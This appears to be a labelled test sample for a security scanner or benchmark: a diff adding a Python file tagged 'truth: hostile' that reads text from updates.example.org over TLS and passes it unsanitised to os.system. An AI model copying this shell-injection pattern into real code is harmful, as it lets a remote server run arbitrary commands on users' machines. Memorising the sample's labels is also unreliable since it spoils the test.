@@ -1,0 +1,18 @@
+# truth: hostile
+# twin: ssl-socket-safe.py
+# not-run: needs a network
+
+import os
+import socket
+import ssl
+
+
+def command_from(host):
+    context = ssl.create_default_context()
+    with socket.create_connection((host, 443)) as plain:
+        with context.wrap_socket(plain, server_hostname=host) as secure:
+            return secure.recv(100).decode()
+
+
+def main():
+    os.system("logger " + command_from("updates.example.org"))  # sink
